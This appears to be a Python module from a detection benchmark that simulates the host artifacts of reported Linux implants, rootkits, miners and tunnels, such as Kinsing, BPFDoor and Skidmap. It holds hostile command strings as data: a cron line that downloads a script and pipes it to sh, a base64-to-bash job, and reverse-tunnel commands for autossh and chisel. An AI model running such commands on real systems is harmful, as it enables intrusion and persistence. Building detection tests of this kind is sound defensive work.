"""Implants, rootkits, miners and tunnels, as public reports describe them (TA0011, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.held import scene


def perfctl(host: Host) -> None:
    """T1496, T1574.006: perfctl: a preloaded libgcwrap, a copy under root's home, a miner deleted after its start."""
    library = "/usr/lib/libgcwrap.so"
    scene.put(host, "/etc/ld.so.preload", library)
    scene.put(host, library)
    scene.put(host, "/root/.config/cron/perfcc", mode="0755")
    scene.put(host, "/root/.profile", "planted")
    scene.cron(host, "/etc/cron.d/perfclean", "11 * * * *", "root /root/.config/cron/perfcc")
    pid = scene.spawn(host, "/tmp/.perf.c/sh", "sh", name="perfctl", on_disk="0", static=True, threads=8)
    scene.connect(host, pid, "198.51.100.44", 9001)
    for row in scene.named(host, "sshd", "cron", "crond")[:2]:
        scene.load(host, row["pid"], library)


def kinsing(host: Host) -> None:
    """T1610, T1496: Kinsing: the loader and its miner in /tmp, a job that downloads it again, a preloaded libsystem."""
    row = scene.work(host)
    uid, user = row["uid"], scene.user_of(host, row["uid"])
    loader = scene.spawn(host, "/tmp/kinsing", "/tmp/kinsing", uid=uid, parent=row["pid"], cwd="/tmp", static=True, threads=14)  # fmt: skip
    miner = scene.spawn(host, "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", uid=uid, parent=loader, cwd="/tmp", static=True, threads=9)  # fmt: skip
    scene.listen(host, loader, 31_458)
    scene.connect(host, loader, "203.0.113.140", 80)
    scene.connect(host, miner, "203.0.113.141", 80)
    scene.cron(host, scene.spool(host, user), "* * * * *", "wget -q -O - http://203.0.113.140/d.sh | sh > /dev/null 2>&1")  # fmt: skip


def teamtnt(host: Host) -> None:
    """T1036, T1496: TeamTNT: a miner called [ext4], chattr renamed, a unit that brings it back, keys for root."""
    scene.put(host, "/usr/bin/ntpdchattr", mode="0755")
    scene.put(host, "/usr/share/[ext4]", mode="0755")
    scene.unit(host, "crypto.service", "Crypto Service")
    pid = scene.spawn(
        host, "/usr/share/[ext4]", "[ext4]", name="[ext4]", unit="crypto.service", static=True, threads=6
    )
    scene.connect(host, pid, "192.0.2.61", 14_433)
    scene.key(host, "root", "teamtnt", comment="root@localhost")
    scene.spawn(host, scene.shell(host), "sh -c while true; do masscan -p2375 --rate 50000; done", name="sh")


def bpfdoor(host: Host) -> None:
    """T1205.002: BPFDoor: dressed as a daemon, its file in /dev/shm gone, a packet socket and no port."""
    pid = scene.spawn(
        host, "/dev/shm/kdmtmpflush", "/usr/sbin/console-kit-daemon --no-daemon", name="console-kit-dae", on_disk="0"
    )  # fmt: skip
    scene.raw_socket(host, pid)
    scene.put(host, "/run/haldrund.pid", mode="0644")


def bpfdoor_quiet(host: Host) -> None:
    """T1205.002: the same in a later form: a program in /usr/sbin under a plausible name, and a packet socket."""
    pid = scene.spawn(
        host, "/usr/sbin/hald-addon-acpi", "hald-addon-acpi: listening on acpi kernel interface"
    )
    scene.raw_socket(host, pid)


def symbiote(host: Host) -> None:
    """T1574.006, T1014: Symbiote: a library in a few processes hides all else; the mapping alone is left."""
    library = f"{scene.libraries(host)}/libsmbclient-private.so.0"
    for row in scene.named(host, "sshd", "cron", "crond"):
        scene.load(host, row["pid"], library)


def orbit(host: Host) -> None:
    """T1574.006: OrBit: the loader itself is patched to load a library from a folder of its own; ld.so.preload is clean."""
    library = "/lib/libntpVnQE6mk/libdl.so"
    for row in host.tables["processes"]:
        if row["path"] and row["parent"] == "1":
            scene.load(host, row["pid"], library)


def skidmap(host: Host) -> None:
    """T1547.006, T1556.003: Skidmap: modules named like drivers, pam_unix replaced, SELinux off, a key for root."""
    scene.module(host, "iproute", 20_480)
    scene.module(host, "netlink", 24_576)
    scene.control(host, "kernel.tainted", "12288")
    pam_folder = "/usr/lib/x86_64-linux-gnu/security" if scene.debian(host) else "/usr/lib64/security"
    scene.replace(host, f"{pam_folder}/pam_unix.so", "skidmap")
    scene.put(host, "/etc/selinux/config", "SELINUX=disabled")
    scene.key(host, "root", "skidmap", comment="")
    scene.spawn(host, "/usr/bin/kaudited", "/usr/bin/kaudited", static=True)


def reptile(host: Host) -> None:
    """T1014: Reptile: module, files and processes hide themselves; a taint and a changed /etc/modules are left."""
    scene.control(host, "kernel.tainted", "12288")
    path = "/etc/modules" if scene.debian(host) else "/etc/modules-load.d/reptile.conf"
    scene.put(host, path, "planted", age_s=700_000)


def module_forced(host: Host) -> None:
    """T1014: only the taint of a module that was forced in and hid itself."""
    scene.control(host, "kernel.tainted", "4098")


def hiddenwasp(host: Host) -> None:
    """T1574.006: HiddenWasp: a trojan started with LD_PRELOAD and a flag in its environment, from a changed rc.local."""
    pid = scene.spawn(host, "/usr/sbin/irqbalanced", "/usr/sbin/irqbalanced")
    scene.variable(host, pid, LD_PRELOAD="/usr/lib/libselinux.a", I_AM_HIDDEN="1")
    scene.load(host, pid, "/usr/lib/libselinux.a")
    scene.put(host, "/etc/rc.local" if scene.debian(host) else "/etc/rc.d/rc.local", "planted", mode="0755")
    scene.connect(host, pid, "198.51.100.19", 61_061)


def gsocket(host: Host) -> None:
    """T1572, T1036.004: gs-netcat as `defunct` in a user's home, named like a kernel thread, back by .profile and cron."""
    uid = scene.uid_of(host, "deploy")
    pid = scene.spawn(
        host, "/home/deploy/.config/htop/defunct", "[mm_percpu_wq]", name="defunct", uid=uid, static=True
    )
    scene.variable(host, pid, GS_ARGS="-liqD", HISTFILE="/dev/null")
    scene.connect(host, pid, "192.0.2.200", 443)
    scene.put(host, "/home/deploy/.profile", "planted", uid=uid)
    scene.cron(host, scene.spool(host, "deploy"), "0 * * * *", '{ echo L3Vzci9iaW4vcGtpbGwgLTAgLVUxMDAx|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47')  # fmt: skip


def sliver(host: Host) -> None:
    """T1071.001: a Sliver beacon as a static program among the operator's own; it looks like one more agent."""
    pid = scene.spawn(
        host, "/usr/local/bin/node_textfile", "/usr/local/bin/node_textfile", static=True, threads=11
    )
    scene.connect(host, pid, "203.0.113.205", 443)


def sliver_asleep(host: Host) -> None:
    """T1071.001: the same, asleep between beacons, in the package folder: one process, no socket."""
    scene.spawn(host, "/usr/lib/systemd/systemd-hwcheck", "/usr/lib/systemd/systemd-hwcheck", static=True, threads=9)  # fmt: skip


def chisel(host: Host) -> None:
    """T1572: chisel from /var/tmp gives an outsider a SOCKS proxy into the network."""
    row = scene.work(host)
    pid = scene.spawn(
        host, "/var/tmp/ch", "/var/tmp/ch client --fingerprint EXAMPLE 203.0.113.5:8080 R:1080:socks", uid=row["uid"], static=True, threads=7
    )  # fmt: skip
    scene.connect(host, pid, "203.0.113.5", 8080)
    for last in (14, 15, 16, 17):
        scene.connect(host, pid, f"10.20.40.{last}", 445 + last)


def fast_reverse_proxy(host: Host) -> None:
    """T1090: frpc as a unit with its configuration below /etc."""
    scene.put(host, "/etc/frp/frpc.ini", mode="0600")
    scene.unit(host, "frpc.service", "Frp Client Service")
    pid = scene.spawn(
        host, "/usr/bin/frpc", "/usr/bin/frpc -c /etc/frp/frpc.ini", unit="frpc.service", static=True
    )
    scene.connect(host, pid, "198.51.100.90", 7000)


def cloud_tunnel(host: Host) -> None:
    """T1572: a signed tunnel of a known vendor, with the intruder's token, as a unit and a package."""
    scene.package(host, "cloudflared", "2025.8.1")
    scene.unit(host, "cloudflared.service", "cloudflared")
    pid = scene.spawn(
        host, "/usr/bin/cloudflared", "/usr/bin/cloudflared --no-autoupdate tunnel run --token EXAMPLE-NOT-A-REAL-TOKEN",
        unit="cloudflared.service", static=True, threads=12,
    )  # fmt: skip
    for last in (33, 34, 133, 134):
        scene.connect(host, pid, f"198.51.100.{last}", 7844)
    scene.listen(host, pid, 20_241, "127.0.0.1")


def reverse_autossh(host: Host) -> None:
    """T1572: autossh, back at each restart by the deploy user's crontab, opens the host's port 22 elsewhere."""
    uid = scene.uid_of(host, "deploy")
    watch = scene.spawn(host, "/usr/lib/autossh/autossh", "/usr/lib/autossh/autossh -M 0 -N -R 2201:localhost:22 t@198.51.100.6", uid=uid)  # fmt: skip
    pid = scene.spawn(
        host, "/usr/bin/ssh", "/usr/bin/ssh -N -R 2201:localhost:22 t@198.51.100.6", uid=uid, parent=watch
    )
    scene.connect(host, pid, "198.51.100.6", 22)
    scene.package(host, "autossh", "1.4g", "1+b1")
    scene.cron(host, scene.spool(host, "deploy"), "@reboot", "autossh -M 0 -f -N -R 2201:localhost:22 t@198.51.100.6")  # fmt: skip


def mesh_network(host: Host) -> None:
    """T1219: a mesh VPN joins the host to somebody else's network: interface, daemon, rules."""
    pid = scene.spawn(
        host, "/usr/sbin/tailscaled", "/usr/sbin/tailscaled --state=mem: --socket=/run/.ts.sock --tun=userspace-networking", static=True, threads=13
    )  # fmt: skip
    scene.listen(host, pid, 41_641, protocol=17)
    scene.connect(host, pid, "192.0.2.73", 443)


def dns_tunnel(host: Host) -> None:
    """T1071.004: answers come by DNS from an outsider's server; one UDP socket of a small program."""
    row = scene.work(host)
    pid = scene.spawn(
        host, "/usr/share/misc/magic.mgc.d/ident", "ident -q", name="ident", uid=row["uid"], parent=row["pid"]
    )
    scene.connect(host, pid, "203.0.113.53", 53, protocol=17)


def ddos_bot(host: Host) -> None:
    """T1498: a Mirai descendant with random names that floods a list of addresses over UDP."""
    pid = scene.spawn(
        host,
        "/tmp/x86_64",
        "jk3kd02kfd",
        name="jk3kd02kfd",
        on_disk="0",
        static=True,
        uid=scene.work(host)["uid"],
    )
    for last in range(20, 44):
        scene.connect(host, pid, f"192.0.2.{last}", 80, protocol=17)
    scene.listen(host, pid, 48_101, "127.0.0.1")


def proxyware(host: Host) -> None:
    """T1496: bandwidth sold to others by a container that looks like a network tool."""
    pid = scene.container(
        host,
        "netstat-exporter",
        "docker.example/traffmonetizer/cli_v2:latest",
        "/app/Cli start accept --token EXAMPLE",
    )
    scene.connect(host, pid, "198.51.100.150", 443)


def miner_in_container(host: Host) -> None:
    """T1610, T1496: a miner in an image named like Kubernetes' pause container, the pool behind a local proxy."""
    scene.container(
        host, "k8s_POD_pause", "docker.example/k8s-gcr/pause-amd64:3.1", "/pause --donate-level=1"
    )


def slow_miner(host: Host) -> None:
    """T1496: XMRig renamed and niced, with huge pages set for it; its pool is a host inside the network."""
    scene.control(host, "vm.nr_hugepages", "1280")
    pid = scene.spawn(
        host,
        "/usr/lib/apt/methods/mirror-sync",
        "/usr/lib/apt/methods/mirror-sync -c /etc/apt/mirror.conf",
        static=True,
        threads=3,
    )
    scene.connect(host, pid, "10.20.77.14", 3333)


ATTACKS = (
    perfctl, kinsing, teamtnt, bpfdoor, bpfdoor_quiet, symbiote, orbit, skidmap, reptile, module_forced, hiddenwasp, gsocket, sliver,
    sliver_asleep, chisel, fast_reverse_proxy, cloud_tunnel, reverse_autossh, mesh_network, dns_tunnel, ddos_bot, proxyware,
    miner_in_container, slow_miner,
)  # fmt: skip
